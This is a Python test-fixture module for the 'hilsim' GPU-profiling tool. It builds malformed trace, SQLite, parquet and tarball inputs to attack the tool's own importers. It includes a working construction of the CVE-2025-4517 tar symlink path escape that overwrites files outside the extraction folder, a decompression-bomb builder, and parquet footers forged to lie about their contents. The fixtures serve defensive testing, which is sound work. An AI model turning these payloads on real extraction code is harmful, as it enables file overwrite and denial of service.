"""Small attack inputs built from the real fixtures in ``tests/data``.

Each builder writes one file under a folder and returns its path; the tests and the fuzz
tier share them so every importer is attacked from a real profile, not an invented one.
"""

from __future__ import annotations

import gzip
import json
import shutil
import sqlite3
from pathlib import Path
from typing import Any

DATA = Path(__file__).parent / "data"
NSYS_CSV = DATA / "nsys" / "vernier-nsys2026.3.1-rtx5000ada_cuda_gpu_trace.csv"
SQLITE = DATA / "nsys-sqlite" / "casio-nerf-a100.nsys.sqlite"
KINETO = DATA / "kineto" / "hta-v100-ns-resolution.trace.json.gz"
WIDE = DATA / "casio" / "casio-kernel-durations.csv"
NCU_RAW = DATA / "ncu" / "decodebench_flashinfer_b1_ctx4k_raw_2025.csv"
MICROBENCH_QV100 = DATA / "microbench" / "gpgpusim" / "SM7_QV100.microbench.json"


def csv_lines() -> list[str]:
    """The real nsys ``cuda_gpu_trace`` CSV, one string per line (header first)."""
    return NSYS_CSV.read_text(encoding="utf-8").splitlines()


def kernel_row(lines: list[str]) -> int:
    """Index of the first kernel row (one with a grid size) in :func:`csv_lines`."""
    for index, line in enumerate(lines[1:], start=1):
        if line.split(",")[3]:  # GrdX: set for kernels, empty for memcpy rows
            return index
    raise AssertionError("no kernel row in the fixture")


def nsys_csv(folder: Path, column: int | None = None, value: str | None = None,
             name: str = "trace.csv", double: bool = False) -> Path:
    """The real nsys CSV with cell ``column`` of its first kernel row set to ``value``
    (and every data row written twice with ``double``)."""
    lines = csv_lines()
    if column is not None:
        row = kernel_row(lines)
        head, _, tail = lines[row].partition('"')
        cells = head.split(",")
        cells[column] = value or ""
        lines[row] = ",".join(cells) + ('"' + tail if tail else "")
    if double:
        lines = [lines[0], *[line for line in lines[1:] for _ in range(2)]]
    path = folder / name
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def sqlite_copy(folder: Path, *statements: str, name: str = "trace.sqlite") -> Path:
    """The real nsys SQLite export with ``statements`` applied."""
    path = folder / name
    shutil.copyfile(SQLITE, path)
    conn = sqlite3.connect(path)
    try:
        for statement in statements:
            conn.execute(statement)
        conn.commit()
    finally:
        conn.close()
    return path


def kineto_events(limit: int = 60) -> list[dict[str, Any]]:
    """The first ``limit`` kernel events of the real V100 Kineto trace."""
    data = json.loads(gzip.decompress(KINETO.read_bytes()))
    kernels = [e for e in data["traceEvents"] if e.get("cat") == "kernel"]
    return kernels[:limit]


def kineto_trace(folder: Path, events: list[dict[str, Any]] | None = None,
                 name: str = "trace.json", raw: str | None = None) -> Path:
    """A Kineto trace of ``events`` (default: real kernels); ``raw`` replaces the text."""
    path = folder / name
    text = raw if raw is not None else json.dumps({"traceEvents": events or kineto_events()})
    path.write_text(text, encoding="utf-8")
    return path


def cupti_records(folder: Path, kernels: list[dict[str, Any]] | None = None,
                  name: str = "r.cupti.jsonl", extra_lines: tuple[str, ...] = ()) -> Path:
    """A CUPTI records file (header + kernel records) written as the backend writes it."""
    from hilsim.formats.cupti_format import write_cupti_records

    if kernels is None:
        kernels = [
            {"kind": "kernel", "name": "_Z6vecAddPfS_S_i", "start": 1000 + 100 * i,
             "end": 1050 + 100 * i, "correlation_id": 10 + i, "device_id": 0,
             "stream_id": 7, "grid_x": 64, "grid_y": 1, "grid_z": 1, "block_x": 256,
             "block_y": 1, "block_z": 1}
            for i in range(4)
        ]
    path = folder / name
    write_cupti_records(path, {"tool": {"name": "cupti-python"}, "complete": True}, kernels)
    if extra_lines:
        with open(path, "a", encoding="utf-8") as handle:
            handle.write("".join(line + "\n" for line in extra_lines))
    return path


def wide_csv(folder: Path, value: str, name: str = "wide.csv") -> Path:
    """The first 50 lines of the real CASIO wide table with one cell set to ``value``."""
    lines = WIDE.read_text(encoding="utf-8-sig").splitlines()[:50]
    cells = lines[1].split(",")
    cells[0] = value
    lines[1] = ",".join(cells)
    path = folder / name
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def ncu_kernel_names() -> list[str]:
    """The kernel names of the real ncu raw CSV fixture, in its order."""
    import csv

    rows = list(csv.reader(NCU_RAW.read_text(encoding="utf-8").splitlines()[2:]))
    column = rows[0].index("Kernel Name")
    return [row[column] for row in rows[2:]]


# ------------------------------------------------------------------ source tarballs


def tar_file(name: str, data: bytes = b"x", pax: dict[str, str] | None = None,
             mode: int = 0o644) -> tuple[Any, bytes]:
    """A regular member (``pax``: PAX header records written as given)."""
    import tarfile

    info = tarfile.TarInfo(name)
    info.mode = mode
    if pax:
        info.pax_headers = dict(pax)
    return info, data


def tar_link(name: str, target: str, hard: bool = False) -> tuple[Any, None]:
    """A symbolic (or ``hard``) link member."""
    import tarfile

    info = tarfile.TarInfo(name)
    info.type = tarfile.LNKTYPE if hard else tarfile.SYMTYPE
    info.linkname = target
    return info, None


def tar_dir(name: str) -> tuple[Any, None]:
    """A folder member."""
    import tarfile

    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    info.mode = 0o755
    return info, None


def tarball(path: Path, members: list[tuple[Any, bytes | None]]) -> Path:
    """A gzip-compressed PAX tarball of ``members`` (from :func:`tar_file` and friends)."""
    import io
    import tarfile

    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    return path


def tarball_realpath_attack(path: Path, dest: Path, levels_up: int = 1) -> Path:
    """The CVE-2025-4517 construction against extraction into ``dest``: folders of long
    names reached through one-letter symbolic links until the expanded path passes
    PATH_MAX (where ``os.path.realpath`` stops resolving), a link ``escape`` that then
    points ``levels_up`` folders above ``dest``, a hard link through it to
    ``escape/flag`` (a file outside), written over, and a new ``escape/newfile``."""
    import os

    steps = "abcdefghijklmnop"
    max_path = os.pathconf(dest.parent, "PC_PATH_MAX")
    component = "d" * ((max_path - len(str(dest)) - 1) // (len(steps) + 1))
    members: list[tuple[Any, bytes | None]] = []
    prefix = ""
    for step in steps:
        members.append(tar_dir(os.path.join(prefix, component)))
        members.append(tar_link(os.path.join(prefix, step), component))
        prefix = os.path.join(prefix, component)
    long_link = os.path.join(*steps, "l" * 254)
    members.append(tar_link(long_link, os.path.join(*[".."] * len(steps))))
    members.append(tar_link("escape", os.path.join(long_link, *[".."] * levels_up)))
    members.append(tar_link("flaglink", os.path.join("escape", "flag"), hard=True))
    members.append(tar_file("flaglink", b"overwrite"))
    members.append(tar_file("escape/newfile", b"new"))
    return tarball(path, members)


def tarball_of_zeros(path: Path, declared: int, members: int = 1) -> Path:
    """A .tar.gz of ``members`` files of ``declared`` zero bytes each, written as
    concatenated gzip members (one compressed MiB of zeros repeated), so a 4 GiB tree
    costs ~4 MB and no time to build."""
    import gzip
    import tarfile

    mib = gzip.compress(b"\0" * (1 << 20), mtime=0)
    with open(path, "wb") as out:
        for index in range(members):
            info = tarfile.TarInfo(f"top/zeros{index}.bin")
            info.size = declared
            out.write(gzip.compress(info.tobuf(format=tarfile.PAX_FORMAT), mtime=0))
            whole, rest = divmod(declared, 1 << 20)
            for _ in range(whole):
                out.write(mib)
            pad = rest + (-declared % 512)
            if pad:
                out.write(gzip.compress(b"\0" * pad, mtime=0))
        out.write(gzip.compress(b"\0" * 1024, mtime=0))
    return path


def tarball_of_empty_files(path: Path, count: int) -> Path:
    """A .tar.gz of ``count`` empty files (headers only)."""
    import gzip
    import tarfile

    blocks = b"".join(tarfile.TarInfo(f"top/f{i}").tobuf(format=tarfile.USTAR_FORMAT)
                      for i in range(count))
    path.write_bytes(gzip.compress(blocks + b"\0" * 1024, mtime=0))
    return path


#: the shipped GPGPU-Sim example: bundles, plans, logs, timing config (its README)
SIMULATED_V100 = Path(__file__).parent.parent / "analyzer" / "examples" / "simulated-v100"


#: a real GPGPU-Sim log: transformer_step's first step on SM7_QV100 (4 SMs), 29 kernels,
#: with hilsim-launch and hilsim-region marks (tests/data/gpgpusim/README.md)
GPGPUSIM_LOG = DATA / "gpgpusim" / "transformer_step1.SM7_QV100-4sm.log"


def gpgpusim_log(folder: Path, edit=None, name: str = "sim.log", text: str | None = None) -> Path:
    """The real GPGPU-Sim log with ``edit(text) -> text`` applied (``.gz`` names are
    written compressed)."""
    text = GPGPUSIM_LOG.read_text(encoding="utf-8") if text is None else text
    if edit is not None:
        text = edit(text)
    path = folder / name
    data = text.encode("utf-8")
    path.write_bytes(gzip.compress(data, mtime=0) if name.endswith(".gz") else data)
    return path


def replace_values(text: str, key: str, value: str) -> str:
    """Every ``key = N`` line of a simulator log with its value replaced by ``value``."""
    import re

    return re.sub(rf"^({re.escape(key)}\s*=\s*)\S+", rf"\g<1>{value}", text, flags=re.M)


def cli(argv: list[str]) -> tuple[int, list[str], str]:
    """``hilsim ARGV`` in this process, without the fuzz tier's time limit (for whole
    commands that take longer than it on a loaded machine): (exit code, stderr lines,
    stdout). Exit 2 must be exactly one ``hilsim: error:`` line; exit 0 only warnings."""
    import io
    from contextlib import redirect_stderr, redirect_stdout

    from hilsim.cli.main import main

    err, out = io.StringIO(), io.StringIO()
    with redirect_stderr(err), redirect_stdout(out):
        code = main([str(a) for a in argv])
    lines = err.getvalue().splitlines()
    assert "Traceback" not in err.getvalue(), err.getvalue()[-2000:]
    assert code in (0, 2), (argv, code, lines)
    if code == 2:
        assert len(lines) == 1 and lines[0].startswith("hilsim: error: "), lines
    else:
        assert all(line.startswith("hilsim: warning: ") for line in lines), lines
    return code, lines, out.getvalue()


def _footer_span(data: bytes) -> tuple[int, int]:
    """(start, end) of a parquet file's thrift footer (``FileMetaData``) in ``data``."""
    assert data[-4:] == b"PAR1"
    length = int.from_bytes(data[-8:-4], "little")
    return len(data) - 8 - length, len(data) - 8


def lying_statistics(path: Path, column: str, claimed: int, other: int) -> None:
    """Rewrite the footer of the parquet file at ``path``, whose INT64 ``column`` holds
    ``claimed`` and ``other`` (each a value whose 8 bytes occur nowhere else in the
    footer), so that its statistics say every row holds ``claimed``: each min/max equal to
    ``other`` is overwritten in place (same length; pages untouched)."""
    import pyarrow.parquet as pq

    data = bytearray(path.read_bytes())
    start, end = _footer_span(bytes(data))
    lie = claimed.to_bytes(8, "little", signed=True)
    truth = other.to_bytes(8, "little", signed=True)
    footer = bytes(data[start:end])
    assert truth in footer, "the other value is not in the footer's statistics"
    data[start:end] = footer.replace(truth, lie)
    path.write_bytes(bytes(data))
    meta = pq.read_metadata(path)
    index = [meta.schema.column(i).name for i in range(meta.num_columns)].index(column)
    for group in range(meta.num_row_groups):
        stats = meta.row_group(group).column(index).statistics
        assert stats.min == stats.max == claimed, (stats.min, stats.max)


def zigzag_varint(value: int) -> bytes:
    """``value`` as thrift's compact protocol writes an i64: zigzag, then a varint."""
    number = (value << 1) ^ (value >> 63)
    out = bytearray()
    while True:
        byte = number & 0x7F
        number >>= 7
        if number:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def lying_row_count(path: Path, claimed: int) -> None:
    """Rewrite the file-level row count of the parquet footer at ``path`` (one row group)
    to ``claimed`` (its varint as long as the true count's), the row group's count kept."""
    import pyarrow.parquet as pq

    data = bytearray(path.read_bytes())
    start, end = _footer_span(bytes(data))
    true_rows = pq.read_metadata(path).num_rows
    truth, lie = zigzag_varint(true_rows), zigzag_varint(claimed)
    assert len(truth) == len(lie)
    # the file-level num_rows is field 3 (i64) of FileMetaData, after the schema list: the
    # last occurrence of "field 3, i64" + the count in the footer is the row group's or the
    # file's; try each until the file-level one changed
    footer = bytes(data[start:end])
    at = footer.find(b"\x16" + truth)
    while at >= 0:
        trial = bytearray(data)
        trial[start + at + 1 : start + at + 1 + len(truth)] = lie
        path.write_bytes(bytes(trial))
        try:
            meta = pq.read_metadata(path)
            if meta.num_rows == claimed and meta.row_group(0).num_rows == true_rows:
                return
        except Exception:  # noqa: BLE001 - another i64 field of that value: try the next
            pass
        at = footer.find(b"\x16" + truth, at + 1)
    path.write_bytes(bytes(data))
    raise AssertionError("file-level row count not found in the footer")
